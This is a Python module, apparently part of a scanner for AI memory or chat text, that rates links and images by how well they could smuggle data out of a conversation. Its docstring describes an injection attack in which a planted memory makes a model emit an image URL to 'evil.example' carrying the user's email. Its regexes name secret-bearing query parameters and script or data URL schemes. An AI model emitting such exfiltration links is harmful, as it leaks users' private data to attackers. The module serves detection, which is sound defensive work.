"""Links and images that could carry data out of the conversation.

The classic exfiltration needs no tool at all: a memory makes the model emit
``![](https://evil.example/?q=<the user's email>)`` and the chat client fetches
the image, sending the data to the attacker's server. So screening rates a link
by how well it could *carry* data, not by whether the domain looks bad (a regex
cannot know that):

* a URL with a placeholder waiting to be filled (``?d=``, ``{email}``,
  ``<DATA>``, ``$SECRET``) is high, and so is any image or ``<img>`` whose URL has
  a query string;
* an image with a plain URL, a query parameter named like a payload (``data``,
  ``token``, ``email``, ``history``…) or a long opaque value, and the
  ``javascript:``/``data:`` schemes are medium;
* any other URL or Markdown link is low: a reviewer sees it, ``auto`` still
  applies. A bare domain in prose ("Carol's favourite site is example.com") is
  not reported at all.
"""

from __future__ import annotations

import re
from urllib.parse import parse_qsl, urlsplit

from ..models import Finding
from ._rules import Severity
from ._text import TextView, snippet

__all__ = ["assess_url", "scan"]

# RFC 3986 characters (no quotes, brackets or non-ASCII, so a URL ends before "，然后").
_CHARS = r"[A-Za-z0-9\-._~:/?#@!$&()*+,;=%]"
_URL = re.compile(
    r"(?<![A-Za-z0-9.+-])(?:(?:https?|ftp|wss?)://|www\.)"
    + _CHARS
    + r"+(?:\{[^\s{}]{0,40}\}"
    + _CHARS
    + r"*)*",
    re.IGNORECASE,
)
# Scheme-less, but with a path and a query string: "evil.example/c?d=…".
_BARE_URL = re.compile(
    r"(?<![A-Za-z0-9.@/-])[a-z0-9-]+(?:\.[a-z0-9-]+)*\.[a-z]{2,12}/"
    + _CHARS
    + r"*\?"
    + _CHARS
    + "+",
    re.IGNORECASE,
)
_IMAGE = re.compile(
    r"!\[[^\]\n]{0,200}+\]\(\s*<?(?P<url>[^)\s>]{1,2000}+)>?"
    r"(?:\s+[\"'][^\"'\n]{0,200}+[\"'])?\s*\)"
)
_IMAGE_REF = re.compile(r"!\[[^\]\n]{0,200}\]\[[^\]\n]{0,100}\]")
_LINK = re.compile(
    r"(?<!!)\[[^\]\n]{1,200}+\]\(\s*<?(?P<url>[^)\s>]{1,2000}+)>?"
    r"(?:\s+[\"'][^\"'\n]{0,200}+[\"'])?\s*\)"
)
_HTML_IMG = re.compile(
    r"<\s*(?:img|image|video|audio|source|iframe)\b[^>]{0,300}?\b(?:src|href|srcset|poster)\s*=\s*"
    r"[\"']?(?P<url>[^\"'\s>]+)",
    re.IGNORECASE,
)
_SCHEME = re.compile(
    r"\b(?:javascript|vbscript):\s*\S{1,80}|\bdata:(?!image/(?:png|jpe?g|gif|webp|avif)[;,])"
    r"[a-z]+/[a-z0-9.+-]+[;,]",
    re.IGNORECASE,
)
# An inline raster image: the picture is in the URL itself, nothing is fetched.
_INLINE_IMAGE = re.compile(r"data:image/(?:png|jpe?g|gif|webp|avif)[;,]", re.IGNORECASE)
_PLACEHOLDER = re.compile(
    r"\{[^}]{0,40}\}|%7B|<[^>]{0,40}>|%3C|\[[A-Za-z_ ]{2,30}\]|\$\{?[A-Za-z_]{2,}|%s\b|"
    r"\b(?:INSERT|DATA|PAYLOAD|SECRET|EMAIL|USER|TOKEN|HERE|XXX+)\b|\.\.\.|…",
)
_DATA_PARAM = re.compile(
    r"(?:d|q?data|payload|p|secret|token|key|apikey|api_key|pw|pwd|pass|password|e?mail|"
    r"user(?:name)?|u|msg|message|content|conv(?:ersation)?|chat|history|mem(?:ory)?|leak|"
    r"exfil|steal|ctx|context|prompt|cookie|session|sid|info|creds?|credentials?|c|x|"
    r"name|phone|addr(?:ess)?|card|cc|ssn|loc(?:ation)?|summary|log)",
    re.IGNORECASE,
)
_OPAQUE = re.compile(r"[A-Za-z0-9+/_=%-]{32,}")
_TRAILING = ".,;:!?)'\"。，；：！？）"
_RANK = {"low": 0, "medium": 1, "high": 2, "critical": 3}


def assess_url(url: str) -> tuple[Severity, str]:
    """Rate how well a URL could carry data to whoever runs its server.

    Args:
        url: the URL as written.

    Returns:
        ``(severity, reason)``.

    Example:
        >>> assess_url("https://x.io/c?d=")
        ('high', 'URL waiting for data to be appended')
        >>> assess_url("https://github.com/acme/app/issues/42")
        ('low', 'link')
    """
    if _PLACEHOLDER.search(url):
        return "high", "URL with a placeholder for data"
    parts = urlsplit(url if "://" in url else "http://" + url)
    if url.endswith(("=", "?", "&")) or parts.query.endswith("="):
        return "high", "URL waiting for data to be appended"
    query = parse_qsl(parts.query, keep_blank_values=True)
    for name, value in query:
        if _DATA_PARAM.fullmatch(name) and (len(value) >= 6 or not value):
            return "medium", f"query parameter {name!r} could carry data"
        if _OPAQUE.search(value):
            return "medium", f"long opaque value in query parameter {name!r}"
    if parts.fragment and _OPAQUE.search(parts.fragment):
        return "medium", "long opaque value in the URL fragment"
    return "low", "link"


def _trim(text: str, start: int, end: int) -> int:
    while end > start and text[end - 1] in _TRAILING:
        if text[end - 1] == ")" and text.count("(", start, end) >= text.count(")", start, end):
            break
        end -= 1
    return end


def scan(view: TextView) -> list[Finding]:
    """Find URLs, Markdown links and images, and rate each one.

    Args:
        view: the text and its folded copy.

    Returns:
        One finding per URL; images and HTML media come with their own finding.

    Example:
        >>> text = "see ![a](https://e.io/p.png?u=alice)"
        >>> [(f.severity, f.start, f.end) for f in scan(TextView(text, text))]
        [('high', 4, 36)]
    """
    text = view.folded
    found: list[Finding] = []
    lowered = text.lower()
    schemes = any(k in lowered for k in ("javascript:", "vbscript:", "data:"))
    bare = "?" in text and "/" in text
    if not (
        bare
        or schemes
        or any(k in lowered for k in ("://", "www.", "](", "][", "src", "href", "poster"))
    ):
        return found

    def add(severity: Severity, message: str, start: int, end: int) -> None:
        s, e = view.span(start, end)
        found.append(Finding("exfiltration", severity, message, s, e))

    images: list[tuple[int, int]] = []
    for rx in (_IMAGE, _HTML_IMG):
        for m in rx.finditer(text):
            url = m.group("url")
            if _INLINE_IMAGE.match(url):
                add("low", "inline image (data URL: nothing is fetched)", *m.span())
                images.append(m.span())
                continue
            severity, reason = assess_url(url)
            if "?" in url or severity != "low":
                message = f"image with a query string (fetched when rendered): {snippet(url)}"
                add("high", message if severity != "high" else f"image: {reason}", *m.span())
            else:
                add("medium", f"image (fetched when rendered): {snippet(url)}", *m.span())
            images.append(m.span())
    for m in _IMAGE_REF.finditer(text):
        add("medium", "reference-style image (fetched when rendered)", *m.span())
    for m in _SCHEME.finditer(text) if schemes else ():
        add("medium", f"script or data URL: {snippet(m.group())}", *m.span())
    links = [(m.span("url"), m.span()) for m in _LINK.finditer(text)]
    urls = [m.span() for m in _URL.finditer(text)]
    if bare:
        urls += [
            m.span()
            for m in _BARE_URL.finditer(text)
            if not any(a <= m.start() < b for a, b in urls)
        ]
    for start, end in urls:
        end = _trim(text, start, end)
        if any(a <= start < b for a, b in images):
            continue
        url = text[start:end]
        severity, reason = assess_url(url)
        outer = next((whole for inner, whole in links if inner[0] <= start < inner[1]), None)
        kind = "Markdown link" if outer else "URL"
        if outer is not None:
            start, end = outer
        add(severity, f"{kind} ({reason}): {snippet(url)}", start, end)
    return found
